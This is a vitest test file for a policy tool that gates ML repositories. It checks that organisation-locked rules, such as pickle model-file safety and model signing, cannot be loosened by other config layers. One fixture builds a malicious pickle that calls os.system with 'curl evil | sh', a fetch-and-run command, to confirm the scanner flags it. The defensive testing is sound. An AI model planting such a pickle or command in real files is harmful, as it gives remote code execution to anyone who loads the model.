import { describe, expect, it } from 'vitest';
import { RULES } from '../src/checks/registry.js';
import { ConfigurationError } from '../src/core/errors.js';
import { evaluate } from '../src/engine/evaluate.js';
import { silentLogger } from '../src/core/logger.js';
import { loadPolicy } from '../src/policies/load.js';
import type { Report } from '../src/report/types.js';
import { callPickle } from './pickle-fixtures.js';
import { configError, memoryProvider } from './helpers/policy.js';
import { makeRepo } from './helpers/repo.js';

const now = new Date('2026-11-28T12:00:00Z');
const ORG = 'acme/ml-policies/policies/ml.yml@v3.2.0';
const BASE = 'acme/ml-policies/policies/base.yml@v3.2.0';
const OTHER = 'acme/other-policies/extra.yml@v1.0.0';
const ROOT = '.github/mlgate.yml';

/** The organisation's locks: one rule per kind of parameter a lock protects. */
const LOCK = `max-exception-days: 30
rules:
  threat-model:
    level: error
    locked: true
    sections: [Assets, Threats]
    max-age-days: 90
    require-atlas: true
  dependency-pinning:
    level: error
    locked: true
    enforce-from: 2027-01-01
  model-file-safety:
    level: error
    locked: true
    allow-globals: [collections.OrderedDict]
    code-levels:
      unknown-global: warning
  dataset-provenance:
    level: error
    locked: true
    allowed-licenses: [mit, apache-2.0]
  model-signing:
    level: error
    locked: true
`;

interface Setup {
  local: Record<string, string>;
  remote: Record<string, string>;
  /** Display name of the file that holds the fragment under test. */
  file: string;
  /** Display name of the layer that locks. */
  lock: string;
}

const v1 = (body: string) => `version: 1\n${body}`;

/** Every way the locking policy can be reached, with the other file before or after it in the merge order. */
const ORDERS: { name: string; build(lock: string, other: string): Setup }[] = [
  {
    name: 'local lock file, other settings after it in the repository policy',
    build: (lock, other) => ({ local: { [ROOT]: v1(`extends: [./ci/org.yml]\n${other}`), 'ci/org.yml': v1(lock) }, remote: {}, file: ROOT, lock: 'ci/org.yml' }),
  },
  {
    name: 'local lock file, other settings in a file extended before it',
    build: (lock, other) => ({ local: { [ROOT]: v1('extends: [./ci/pre.yml, ./ci/org.yml]\n'), 'ci/pre.yml': v1(other), 'ci/org.yml': v1(lock) }, remote: {}, file: 'ci/pre.yml', lock: 'ci/org.yml' }),
  },
  {
    name: 'remote lock, other settings after it in the repository policy',
    build: (lock, other) => ({ local: { [ROOT]: v1(`extends: [${ORG}]\n${other}`) }, remote: { [ORG]: v1(lock) }, file: ROOT, lock: ORG }),
  },
  {
    name: 'remote lock, other settings in a local file extended before it',
    build: (lock, other) => ({ local: { [ROOT]: v1(`extends: [./.github/pre.yml, ${ORG}]\n`), '.github/pre.yml': v1(other) }, remote: { [ORG]: v1(lock) }, file: '.github/pre.yml', lock: ORG }),
  },
  {
    name: 'remote lock, other settings in another remote policy after it',
    build: (lock, other) => ({ local: { [ROOT]: v1(`extends: [${ORG}, ${OTHER}]\n`) }, remote: { [ORG]: v1(lock), [OTHER]: v1(other) }, file: OTHER, lock: ORG }),
  },
  {
    name: 'remote lock, other settings in another remote policy before it',
    build: (lock, other) => ({ local: { [ROOT]: v1(`extends: [${OTHER}, ${ORG}]\n`) }, remote: { [ORG]: v1(lock), [OTHER]: v1(other) }, file: OTHER, lock: ORG }),
  },
  {
    name: 'lock reached through a chain of remote extends, other settings after it',
    build: (lock, other) => ({ local: { [ROOT]: v1(`extends: [${ORG}]\n${other}`) }, remote: { [ORG]: v1('extends: [./policies/base.yml]\n'), [BASE]: v1(lock) }, file: ROOT, lock: BASE }),
  },
  {
    name: 'lock reached through a chain of remote extends, other settings before it',
    build: (lock, other) => ({
      local: { [ROOT]: v1(`extends: [./ci/pre.yml, ${ORG}]\n`), 'ci/pre.yml': v1(other) },
      remote: { [ORG]: v1('extends: [./policies/base.yml]\n'), [BASE]: v1(lock) },
      file: 'ci/pre.yml',
      lock: BASE,
    }),
  },
  {
    name: 'org policy extending mlgate:recommended, other settings after it',
    build: (lock, other) => ({ local: { [ROOT]: v1(`extends: [${ORG}]\n${other}`) }, remote: { [ORG]: v1(`extends: [mlgate:recommended]\n${lock}`) }, file: ROOT, lock: ORG }),
  },
  {
    name: 'org policy extending mlgate:recommended, other settings before it',
    build: (lock, other) => ({
      local: { [ROOT]: v1(`extends: [./ci/pre.yml, ${ORG}]\n`), 'ci/pre.yml': v1(other) },
      remote: { [ORG]: v1(`extends: [mlgate:recommended]\n${lock}`) },
      file: 'ci/pre.yml',
      lock: ORG,
    }),
  },
];

const rule = (id: string, body: string) => `rules:\n  ${id}:\n${body}`;
const SIGNER = '      - method: sigstore\n        identity: https://github.com/acme/train/.github/workflows/release.yml@refs/heads/main\n        issuer: https://token.actions.githubusercontent.com\n';
const EXCEPTION = 'exceptions:\n  - rule: threat-model\n    paths: ["**"]\n    reason: the threat model is being rewritten\n    owner: "@acme/ml"\n    expires: 2026-12-10\n';

/** Each loosening: the fragment, the text its error points at, the key named, and what the message says. */
const LOOSENINGS: { name: string; fragment: string; at: string; key: string; says: RegExp }[] = [
  { name: 'lower level', fragment: rule('threat-model', '    level: warning\n'), at: 'level: warning', key: 'rules.threat-model.level', says: /lowers the level from error to warning/ },
  { name: 'level off', fragment: rule('threat-model', '    level: off\n'), at: 'level: off', key: 'rules.threat-model.level', says: /lowers the level from error to off/ },
  { name: 'enforce-from added', fragment: rule('threat-model', '    enforce-from: 2099-01-01\n'), at: 'enforce-from', key: 'rules.threat-model.enforce-from', says: /postpones enforcement to 2099-01-01/ },
  { name: 'enforce-from later', fragment: rule('dependency-pinning', '    enforce-from: 2027-06-01\n'), at: 'enforce-from', key: 'rules.dependency-pinning.enforce-from', says: /postpones enforcement from 2027-01-01 to 2027-06-01/ },
  {
    name: 'code-levels off for a code the lock does not mention',
    fragment: rule('model-file-safety', '    code-levels:\n      dangerous-global: off\n'),
    at: 'dangerous-global',
    key: 'rules.model-file-safety.code-levels.dangerous-global',
    says: /lowers dangerous-global from error to off/,
  },
  {
    name: 'code-levels lower than the lock says',
    fragment: rule('model-file-safety', '    code-levels:\n      unknown-global: info\n'),
    at: 'unknown-global',
    key: 'rules.model-file-safety.code-levels.unknown-global',
    says: /lowers unknown-global from warning to info/,
  },
  { name: 'superset loses an item', fragment: rule('threat-model', '    sections: [Assets]\n'), at: 'sections', key: 'rules.threat-model.sections', says: /sections drops "Threats"/ },
  { name: 'superset below its default', fragment: rule('model-file-safety', '    files: ["**/*.pkl"]\n'), at: 'files', key: 'rules.model-file-safety.files', says: /files drops "\*\*\/\*\.\{pkl,pickle,pt,/ },
  { name: 'max raised', fragment: rule('threat-model', '    max-age-days: 365\n'), at: 'max-age-days', key: 'rules.threat-model.max-age-days', says: /max-age-days raises it from 90 to 365/ },
  { name: 'true-stays turned off', fragment: rule('threat-model', '    require-atlas: false\n'), at: 'require-atlas', key: 'rules.threat-model.require-atlas', says: /require-atlas turns it off/ },
  { name: 'true-stays default turned off', fragment: rule('model-file-safety', '    sniff-other-files: false\n'), at: 'sniff-other-files', key: 'rules.model-file-safety.sniff-other-files', says: /sniff-other-files turns it off/ },
  { name: 'false-stays turned on', fragment: rule('model-signing', '    ignore-unsigned-files: true\n'), at: 'ignore-unsigned-files', key: 'rules.model-signing.ignore-unsigned-files', says: /ignore-unsigned-files turns it on/ },
  { name: 'subset grows', fragment: rule('model-file-safety', '    allow-globals: [collections.OrderedDict, os.system]\n'), at: 'allow-globals', key: 'rules.model-file-safety.allow-globals', says: /allow-globals adds "os\.system"/ },
  { name: 'a signer added where the lock trusts none', fragment: rule('model-signing', `    signers:\n${SIGNER}`), at: 'signers', key: 'rules.model-signing.signers', says: /signers adds \{"method":"sigstore"/ },
  { name: 'allow-list grows', fragment: rule('dataset-provenance', '    allowed-licenses: [mit, gpl-3.0]\n'), at: 'allowed-licenses', key: 'rules.dataset-provenance.allowed-licenses', says: /allowed-licenses adds "gpl-3\.0"/ },
  { name: 'allow-list emptied', fragment: rule('dataset-provenance', '    allowed-licenses: []\n'), at: 'allowed-licenses', key: 'rules.dataset-provenance.allowed-licenses', says: /empties the allow-list/ },
  { name: 'fixed changed', fragment: rule('model-signing', '    signature: other.sig\n'), at: 'signature', key: 'rules.model-signing.signature', says: /signature changes it/ },
  { name: 'unlocked', fragment: rule('threat-model', '    locked: false\n'), at: 'locked', key: 'rules.threat-model.locked', says: /unlocks it/ },
  { name: 'exceptions allowed', fragment: rule('threat-model', '    exceptions: allowed\n'), at: 'exceptions', key: 'rules.threat-model.exceptions', says: /allows exceptions/ },
  { name: 'max-exception-days raised', fragment: 'max-exception-days: 365\n', at: 'max-exception-days', key: 'max-exception-days', says: /raises the limit from 30 to 365 days/ },
  { name: 'an exception on ** to the locked rule', fragment: EXCEPTION, at: 'rule: threat-model', key: 'exceptions[0]', says: /locks rule threat-model without `exceptions: allowed`, so exceptions to it cannot be added here/ },
];

/** `file:line:col` of the first occurrence of `at` in the text of `file`. */
function where(setup: Setup, at: string): string {
  const text = setup.local[setup.file] ?? setup.remote[setup.file]!;
  const lines = text.split('\n');
  const line = lines.findIndex((l) => l.includes(at));
  return `${setup.file}:${line + 1}:${lines[line]!.indexOf(at) + 1}`;
}

const load = (s: Setup) => loadPolicy({ provider: memoryProvider(s.local, s.remote), rules: RULES, now });

describe('a locked rule cannot be loosened by any layer, before or after the lock', () => {
  const cases = ORDERS.flatMap((order) => LOOSENINGS.map((l) => ({ ...l, order: order.name, build: order.build })));
  it.each(cases)('$name — $order', async ({ fragment, at, key, says, build }) => {
    const setup = build(LOCK, fragment);
    const errors = await configError(() => load(setup));
    expect(errors, errors.join('\n')).toHaveLength(1);
    expect(errors[0]!.startsWith(`${where(setup, at)}: ${key}: `), errors[0]).toBe(true);
    expect(errors[0]).toMatch(says);
    // Both files are named: the loosening one first, the locking one in the message.
    expect(errors[0]).toContain(setup.lock);
  });

  it.each(ORDERS)('the same fragments are accepted when nothing is locked — $name', async ({ build }) => {
    const unlocked = LOCK.replaceAll('    locked: true\n', '').replace('max-exception-days: 30\n', '');
    for (const l of LOOSENINGS) {
      if (l.name === 'exceptions allowed' || l.name === 'unlocked') continue;
      await expect(load(build(unlocked, l.fragment)), l.name).resolves.toBeDefined();
    }
  });
});

/** Settings that only tighten the lock below. */
const TIGHT_LOCK = `rules:
  threat-model:
    level: warning
    locked: true
    sections: [Assets]
    max-age-days: 90
    enforce-from: 2027-01-01
  model-file-safety:
    level: warning
    locked: true
    allow-globals: [collections.OrderedDict, numpy.dtype]
    code-levels:
      unknown-global: info
  dataset-provenance:
    locked: true
    allowed-licenses: [mit, apache-2.0]
`;
const TIGHTEN = `max-exception-days: 10
rules:
  threat-model:
    level: error
    sections: [Assets, Threats]
    max-age-days: 30
    enforce-from: 2026-12-01
    exceptions: denied
  model-file-safety:
    allow-globals: [numpy.dtype]
    strict: true
    code-levels:
      unknown-global: error
  dataset-provenance:
    level: error
    allowed-licenses: [mit]
`;

describe('tightening a locked rule is accepted and applied in every order', () => {
  it.each(ORDERS)('$name', async ({ build }) => {
    const policy = await load(build(TIGHT_LOCK, TIGHTEN));
    expect(policy.rules.get('threat-model')).toMatchObject({ level: 'error', enforceFrom: '2026-12-01', params: { sections: ['Assets', 'Threats'], 'max-age-days': 30 } });
    expect(policy.rules.get('model-file-safety')).toMatchObject({ level: 'warning', codeLevels: { 'unknown-global': 'error' }, params: { 'allow-globals': ['numpy.dtype'], strict: true } });
    expect(policy.rules.get('dataset-provenance')).toMatchObject({ level: 'error', params: { 'allowed-licenses': ['mit'] } });
    expect(policy.maxExceptionDays).toBe(10);
  });
});

describe('exceptions to a locked rule', () => {
  const allowing = LOCK.replace('    require-atlas: true\n', '    require-atlas: true\n    exceptions: allowed\n');
  it.each(ORDERS)('are accepted wherever they are declared when the locking layer itself allows them — $name', async ({ build }) => {
    const policy = await load(build(allowing, EXCEPTION));
    expect(policy.exceptions).toEqual([expect.objectContaining({ rule: 'threat-model', paths: ['**'] })]);
    expect(policy.rules.get('threat-model')?.exceptionsAllowed).toBe(true);
  });

  it('are not opened by mlgate:recommended, which an org policy extends, nor by a layer before the lock', async () => {
    const viaRecommended = ORDERS.find((o) => o.name === 'org policy extending mlgate:recommended, other settings after it')!.build(LOCK, '');
    const policy = await load(viaRecommended);
    expect(policy.rules.get('threat-model')?.exceptionsAllowed).toBe(false);
    // An earlier layer saying `exceptions: allowed` is an error, not an opening.
    const pre = ORDERS.find((o) => o.name === 'remote lock, other settings in a local file extended before it')!.build(LOCK, `${rule('threat-model', '    exceptions: allowed\n')}${EXCEPTION}`);
    const errors = await configError(() => load(pre));
    expect(errors.map((e) => e.split(': ')[1])).toEqual(['rules.threat-model.exceptions', 'exceptions[0]']);
  });

  it('the locking policy may declare its own exceptions without allowing others to', async () => {
    const setup = ORDERS[2]!.build(`${LOCK}${EXCEPTION}`, '');
    const policy = await load(setup);
    expect(policy.exceptions).toEqual([expect.objectContaining({ layer: ORG, rule: 'threat-model' })]);
  });
});

describe('a lock in two layers: both floors apply', () => {
  const ORG2 = 'acme/security/ml.yml@v1.0.0';
  const lock1 = v1('rules:\n  threat-model:\n    level: warning\n    locked: true\n    exceptions: allowed\n    sections: [Assets]\n    max-age-days: 90\n');
  const lock2 = v1('rules:\n  threat-model:\n    level: error\n    locked: true\n    sections: [Threats]\n    max-age-days: 60\n    enforce-from: 2027-01-01\n');
  const setup = (own: string) => ({ provider: memoryProvider({ [ROOT]: v1(`extends: [${ORG}, ${ORG2}]\n${own}`) }, { [ORG]: lock1, [ORG2]: lock2 }), rules: RULES, now });

  it('joins them, the stricter winning key by key, whatever their order', async () => {
    for (const remote of [{ [ORG]: lock1, [ORG2]: lock2 }, { [ORG]: lock2, [ORG2]: lock1 }]) {
      const policy = await loadPolicy({ ...setup(''), provider: memoryProvider({ [ROOT]: v1(`extends: [${ORG}, ${ORG2}]\n`) }, remote) });
      const tm = policy.rules.get('threat-model')!;
      expect(tm).toMatchObject({ level: 'error', params: { 'max-age-days': 60 } });
      // lock1 leaves enforcement immediate: the earlier (no grace) wins.
      expect(tm.enforceFrom).toBeUndefined();
      expect([...(tm.params.sections as string[])].sort()).toEqual(['Assets', 'Threats']);
      expect(tm.locks?.sort()).toEqual([ORG, ORG2].sort());
      // lock2 does not allow exceptions, so the rule is closed to them.
      expect(tm.exceptionsAllowed).toBe(false);
    }
  });

  it('checks the repository against each floor', async () => {
    const errors = await configError(() => loadPolicy(setup(rule('threat-model', '    level: warning\n    max-age-days: 75\n'))));
    expect(errors).toHaveLength(2);
    expect(errors[0]).toMatch(/^\.github\/mlgate\.yml:5:5: rules\.threat-model\.level: lowers the level from error to warning, but acme\/security\/ml\.yml@v1\.0\.0 locks/);
    expect(errors[1]).toMatch(/^\.github\/mlgate\.yml:6:5: rules\.threat-model\.max-age-days: max-age-days raises it from 60 to 75, but acme\/security\/ml\.yml@v1\.0\.0 locks/);
    const exception = await configError(() => loadPolicy(setup(EXCEPTION)));
    expect(exception).toEqual([expect.stringMatching(/^\.github\/mlgate\.yml:4:5: exceptions\[0\]: acme\/security\/ml\.yml@v1\.0\.0 locks rule threat-model without/)]);
  });

  it('a layer cannot slip past a lock by locking the rule itself', async () => {
    const sneaky = v1('rules:\n  model-file-safety:\n    locked: true\n    exceptions: allowed\n    level: off\n    enforce-from: 2099-01-01\n    allow-globals: [os.system]\n    code-levels:\n      dangerous-global: off\n');
    const org = v1('rules:\n  model-file-safety:\n    level: error\n    locked: true\n');
    for (const order of [`./ci/pre.yml, ${ORG}`, `${ORG}, ./ci/pre.yml`]) {
      const policy = await loadPolicy({ provider: memoryProvider({ [ROOT]: v1(`extends: [${order}]\n`), 'ci/pre.yml': sneaky }, { [ORG]: org }), rules: RULES, now });
      expect(policy.rules.get('model-file-safety')).toMatchObject({ level: 'error', enforceFrom: undefined, codeLevels: { 'dangerous-global': 'error' }, params: { 'allow-globals': [] }, exceptionsAllowed: false });
      const withException = memoryProvider({ [ROOT]: v1(`extends: [${order}]\n`), 'ci/pre.yml': `${sneaky}${EXCEPTION.replace('threat-model', 'model-file-safety')}` }, { [ORG]: org });
      const errors = await configError(() => loadPolicy({ provider: withException, rules: RULES, now }));
      expect(errors).toEqual([expect.stringMatching(/^ci\/pre\.yml:12:5: exceptions\[0\]: acme\/ml-policies\/policies\/ml\.yml@v3\.2\.0 locks rule model-file-safety without/)]);
    }
  });

  it('two locks with disjoint allow-lists cannot both hold', async () => {
    const a = v1('rules:\n  dataset-provenance:\n    locked: true\n    allowed-licenses: [mit]\n');
    const b = v1('rules:\n  dataset-provenance:\n    locked: true\n    allowed-licenses: [gpl-3.0]\n');
    const errors = await configError(() => loadPolicy({ ...setup(''), provider: memoryProvider({ [ROOT]: v1(`extends: [${ORG}, ${ORG2}]\n`) }, { [ORG]: a, [ORG2]: b }) }));
    expect(errors.join('\n')).toMatch(/rules\.dataset-provenance\.allowed-licenses: allowed-licenses adds "gpl-3\.0", but acme\/ml-policies\/policies\/ml\.yml@v3\.2\.0 locks/);
  });

  it('two locks that fix a parameter differently cannot both hold', async () => {
    const a = v1('rules:\n  model-signing:\n    locked: true\n    signature: model.sig\n');
    const b = v1('rules:\n  model-signing:\n    locked: true\n    signature: release.sig\n');
    const errors = await configError(() => loadPolicy({ ...setup(''), provider: memoryProvider({ [ROOT]: v1(`extends: [${ORG}, ${ORG2}]\n`) }, { [ORG]: a, [ORG2]: b }) }));
    expect(errors.join('\n')).toMatch(/rules\.model-signing\.signature: signature changes it, but acme\/security\/ml\.yml@v1\.0\.0 locks/);
  });
});

describe('through the engine, the org lock still gates', () => {
  const MFS_LOCK = v1('paths:\n  exclude: ["vendor/**"]\nrules:\n  model-file-safety:\n    level: error\n    locked: true\n');
  const evil = callPickle('os', 'system', 'curl evil | sh');
  const run = async (local: Record<string, string>, remote: Record<string, string>, files: Record<string, string | Uint8Array>): Promise<Report> =>
    evaluate({ root: await makeRepo(files), provider: memoryProvider(local, remote), mode: 'full', logger: silentLogger, toolVersion: '1.0.0', now });
  const gated = (r: Report) => r.findings.filter((f) => f.rule === 'model-file-safety' && !f.waived).map((f) => `${f.level}:${f.code}@${f.path}`);

  it.each([
    ['an exclusion after the lock', { [ROOT]: v1(`extends: [${ORG}]\npaths:\n  exclude: ["models/**"]\n`) }],
    ['an exclusion before the lock', { [ROOT]: v1(`extends: [./ci/pre.yml, ${ORG}]\n`), 'ci/pre.yml': v1('paths:\n  exclude: ["models/**", "**"]\n') }],
  ])('%s does not take files away from the locked rule', async (_name, local) => {
    const r = await run(local, { [ORG]: MFS_LOCK }, { 'models/evil.pkl': evil, 'vendor/lib/evil.pkl': evil });
    // The org's own exclusion does apply: vendor/ is its call.
    expect(gated(r)).toEqual(['error:model-file-safety/dangerous-global@models/evil.pkl']);
    expect(r.conclusion).toBe('failure');
  });

  it('an exception to the locked rule declared before the lock is a configuration error (exit 2), not a waiver', async () => {
    const ex = 'exceptions:\n  - rule: model-file-safety\n    paths: ["**"]\n    reason: legacy\n    owner: "@acme/ml"\n    expires: 2026-12-10\n';
    const failure = run({ [ROOT]: v1(`extends: [./ci/pre.yml, ${ORG}]\n`), 'ci/pre.yml': v1(ex) }, { [ORG]: MFS_LOCK }, { 'models/evil.pkl': evil });
    await expect(failure).rejects.toBeInstanceOf(ConfigurationError);
    await expect(failure).rejects.toThrow(/^ci\/pre\.yml:3:5: exceptions\[0\]: acme\/ml-policies\/policies\/ml\.yml@v3\.2\.0 locks rule model-file-safety without `exceptions: allowed`/);
  });

  it('mlgate:recommended before the org policy does not hold a locked code below the lock', async () => {
    const lock = v1('rules:\n  model-signing:\n    level: error\n    locked: true\n');
    const r = await run({ [ROOT]: v1(`extends: [mlgate:recommended, ${ORG}]\n`) }, { [ORG]: lock }, { 'models/m/model.safetensors': 'weights' });
    expect(r.findings.filter((f) => f.rule === 'model-signing').map((f) => `${f.level}:${f.code}`)).toEqual(['error:model-signing/unsigned']);
    expect(r.conclusion).toBe('failure');
    // Without the lock the built-in's warning stands.
    const unlocked = await run({ [ROOT]: v1(`extends: [mlgate:recommended, ${ORG}]\n`) }, { [ORG]: lock.replace('    locked: true\n', '') }, { 'models/m/model.safetensors': 'weights' });
    expect(unlocked.findings.filter((f) => f.rule === 'model-signing').map((f) => `${f.level}:${f.code}`)).toEqual(['warning:model-signing/unsigned']);
  });
});
